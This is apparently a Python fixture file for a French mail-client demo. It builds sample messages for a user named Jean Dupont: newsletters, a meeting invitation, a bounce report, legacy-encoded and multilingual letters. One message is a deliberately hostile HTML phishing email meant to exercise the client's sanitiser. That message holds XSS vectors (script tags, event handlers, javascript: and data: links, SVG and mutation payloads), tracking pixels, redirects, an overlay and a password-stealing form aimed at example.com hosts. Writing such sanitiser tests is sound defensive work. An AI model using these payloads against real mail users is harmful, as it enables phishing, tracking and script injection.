"""Jean Dupont's mail that takes care to show: newsletters, an invitation, other scripts, a hostile one.

What the hostile message tries does nothing by itself: its addresses are under example.com and answer
nobody. It is here so that one can see the sanitiser at work.
"""

from __future__ import annotations

from courriel_demo.attachments import bar_chart, pdf
from courriel_demo.letters import Letter, Source
from courriel_demo.newsletters import Story, newsletter
from courriel_demo.people import (
    CELINE,
    DIGITAL,
    EMMA,
    INGRID,
    LETTER,
    LOIC,
    MARIE,
    PAUL,
    SATO,
    TRAINING,
    YOUSSEF,
)

_INVITATION = """\
BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//Courriel demo//FR
METHOD:REQUEST
BEGIN:VEVENT
UID:revue-trimestrielle@$domain
DTSTAMP:${day}T080000Z
DTSTART:${day}T130000Z
DTEND:${day}T143000Z
SUMMARY:Revue trimestrielle de l’activité
LOCATION:Salle 204
ORGANIZER;CN=Paul Fontaine:mailto:paul.fontaine@$domain
ATTENDEE;CN=Jean Dupont;RSVP=TRUE:mailto:jean.dupont@$domain
ATTENDEE;CN=Marie Martin;RSVP=TRUE:mailto:marie.martin@$domain
END:VEVENT
END:VCALENDAR
"""

_REPORT = """
Return-Path: <>
From: Mail Delivery Subsystem <postmaster@$domain>
To: <$to>
Subject: =?utf-8?Q?Non_remis=C2=A0=3A_Demande_de_pi=C3=A8ces?=
Date: $date
Message-ID: <$id@$domain>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="rapport"

--rapport
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Votre message n’a pas pu être remis à compta@mairie-disparue.example.org :
le serveur répond que cette boîte n’existe pas.

--rapport
Content-Type: message/delivery-status

Reporting-MTA: dns; mail.$domain

Final-Recipient: rfc822; compta@mairie-disparue.example.org
Action: failed
Status: 5.1.1
Diagnostic-Code: smtp; 550 5.1.1 User unknown

--rapport
Content-Type: text/rfc822-headers

From: Jean Dupont <$to>
To: compta@mairie-disparue.example.org
Subject: =?utf-8?Q?Demande_de_pi=C3=A8ces?=

--rapport--
"""

_HOSTILE = """
From: "Service de sécurité" <alerte@securite-compte.example.com>
To: <$to>
Subject: URGENT : votre boîte sera supprimée
Date: $date
Message-ID: <$id@securite-compte.example.com>
Reply-To: <recuperation@autre-domaine.example.com>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 8bit

<html><head><title>Alerte</title><script>alert('script dans la tête')</script>
<style>body{background:url(https://traceur.example.com/ouvert.gif)}
@import "https://traceur.example.com/feuille.css";
.couvre{position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999}</style>
<meta http-equiv="refresh" content="1;url=https://hameconnage.example.com/">
<base href="https://hameconnage.example.com/"></head>
<body onload="alert('onload')" background="https://traceur.example.com/fond.png">
<h1 style="color:#b00020">Votre boîte sera supprimée dans 24 h</h1>
<p>Ce message factice essaie tout ce qu’un messageur ne doit pas laisser faire.</p>
<img src="x" onerror="alert('onerror')" alt="image piégée">
<img src="https://traceur.example.com/pixel.gif?qui=jean.dupont" width="1" height="1" alt="">
<p style="background-image:url('https://traceur.example.com/lu')">Pisteur dans une feuille de style</p>
<div class="couvre" style="position:fixed;top:0;left:0;width:100%;height:100%">Calque par-dessus la page</div>
<form action="https://hameconnage.example.com/vol" method="post">
<label>Mot de passe : <input type="password" name="p"></label><button>Confirmer</button></form>
<a href="javascript:alert('lien')">Lien javascript</a> ·
<a href="https://hameconnage.example.com/" title="https://portail.$domain/">https://portail.$domain/</a> ·
<a href="data:text/html,<script>alert(1)</script>">Lien data</a>
<iframe src="https://hameconnage.example.com/cadre"></iframe>
<object data="https://hameconnage.example.com/objet.swf"></object>
<svg onload="alert('svg')"><script>alert('svg')</script><a xlink:href="javascript:alert(1)">svg</a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="alert('mutation')"></style></mglyph></table>
</mtext></math>
<template><p>Contenu de template</p></template>
<p>Fin du message hostile.</p></body></html>
"""

_OLD_CLIENT = """
From: =?iso-8859-1?Q?G=E9rard_No=EBl?= <gerard.noel@ancien.example.org>
To: <$to>
Subject: =?iso-8859-1?B?UulzdW3pIGRlcyDpY2hhbmdlcyBkJ2hpZXI=?=
Date: $date
Message-ID: <$id@ancien.example.org>
X-Mailer: Vieux Courrielleur 4.5
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="vieux"

--vieux
Content-Type: text/plain; charset=iso-8859-1
Content-Transfer-Encoding: 8bit

Bonjour,

Mon logiciel date de 1998 : le nom du fichier joint est codé à l'ancienne, l'objet en base64,
le corps en latin-1.
À bientôt, où que vous soyez.

Gérard Noël
--vieux
Content-Type: text/plain; charset=iso-8859-1; name="=?iso-8859-1?Q?r=E9sum=E9_d=E9taill=E9=2Etxt?="
Content-Transfer-Encoding: quoted-printable
Content-Disposition: attachment; filename="=?iso-8859-1?Q?r=E9sum=E9_d=E9taill=E9=2Etxt?="

R=E9sum=E9 : tout va bien.
--vieux
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable
Content-Disposition: attachment;
 filename*0*=utf-8''annexe%20n%C2%B0%201%20;
 filename*1*=%E2%80%93%20d%C3%A9tail%20des%20op%C3%A9;
 filename*2*=rations.txt

Le nom de ce fichier vient en trois morceaux.
--vieux--
"""

_MONTHLY = newsletter(
    "La lettre de l’administration",
    "#005a9c",
    (
        Story(
            "Un guichet de plus", "Trois communes ouvrent un accueil commun, du mardi au samedi.", "guichet"
        ),
        Story(
            "Moins de papier",
            "Un dossier sur deux arrive désormais sans papier. Les délais baissent.",
            "papier",
        ),
        Story("À lire", "Le guide des régies paraît dans une version courte, de douze pages.", "guide"),
    ),
)
_DIGITAL = newsletter(
    "Numérique et vous",
    "#2e7d4f",
    (
        Story("Mots de passe", "Une phrase de quatre mots se retient mieux que huit signes.", "phrase"),
        Story(
            "Sobriété", "Vider les pièces jointes dont on ne se sert plus allège tout le monde.", "sobriete"
        ),
    ),
)
_CATALOGUE = newsletter(
    "Formations du trimestre",
    "#8a3ffc",
    (
        Story(
            "Tableur, second niveau",
            "Deux jours, à distance. Tableaux croisés et contrôle des saisies.",
            "tableur",
        ),
        Story("Écrire simplement", "Une journée pour des courriers que chacun comprend.", "ecrire"),
    ),
)
_RESULTS = """\
<html><body style="font-family:sans-serif"><p>Bonjour à tous,</p>
<p>Les résultats du trimestre, <b>en hausse de 6&nbsp;%</b>&nbsp;:</p>
<p><img src="cid:graphique" alt="Recettes par mois" width="480" height="120"></p>
<table border="1" cellpadding="4" style="border-collapse:collapse">
<tr style="background-color:#dde8f3"><th>Mois</th><th>Recettes</th></tr>
<tr><td>Janvier</td><td align="right">412&nbsp;k€</td></tr>
<tr><td>Février</td><td align="right">436&nbsp;k€</td></tr>
<tr><td>Mars</td><td align="right">458&nbsp;k€</td></tr></table><p>Ingrid</p></body></html>
"""

LETTERS: tuple[Letter | Source, ...] = (
    Letter(0.01, LETTER, "Nouvelles du mois : guichets, papier, régies", *_MONTHLY),
    Letter(
        0.25,
        PAUL,
        "Invitation : Revue trimestrielle de l’activité",
        "Vous êtes invité à la revue trimestrielle, salle 204, de 14 h à 15 h 30.\n",
        calendar=_INVITATION,
        others=(MARIE,),
    ),
    Source(0.6, _HOSTILE),
    Source(1.1, _REPORT),
    Letter(
        2.4,
        INGRID,
        "Résultats du trimestre",
        "Bonjour à tous,\n\nRecettes en hausse de 6 % ; le graphique est dans la version enrichie.\n\n"
        "Ingrid\n",
        html=_RESULTS,
        attachments=(bar_chart("graphique.png", tuple(range(30, 102, 6)), (0, 120, 90), "graphique"),),
        others=(CELINE, LOIC),
    ),
    Letter(3.5, DIGITAL, "Numérique et vous – numéro 12", *_DIGITAL),
    Letter(
        4.1,
        EMMA,
        "Visit of our delegation – programme",
        "Dear Mr Dupont,\n\nThank you for agreeing to receive us. We shall be five, and arrive on the "
        "9.40 train.\n"
        "The draft programme is attached; please change what does not suit you.\n\nKind regards,\n"
        "Emma Clarke\n",
        attachments=(
            pdf("programme.pdf", "Visit programme", ["10:00 Welcome", "11:00 Counter visit", "12:30 Lunch"]),
        ),
    ),
    Letter(
        6.8,
        YOUSSEF,
        "شكرًا على حسن الاستقبال",
        "السيد جان دوبون المحترم،\n\nنشكركم على حسن استقبالكم لنا يوم الثلاثاء الماضي. سنرسل إليكم "
        "التقرير قبل نهاية الشهر.\n\n"
        "مع أطيب التحيات،\nيوسف منصور\n",
        encoding="base64",
    ),
    Letter(
        9.8,
        SATO,
        "視察の日程について",
        "デュポン様\n\n来月の視察の日程をお知らせします。詳細は追ってご連絡いたします。\n\n佐藤 明子\n",
        charset="iso-2022-jp",
        encoding="7bit",
    ),
    Source(12.7, _OLD_CLIENT, charset="iso-8859-1"),
    Letter(16.2, TRAINING, "Catalogue des formations du trimestre", *_CATALOGUE),
)
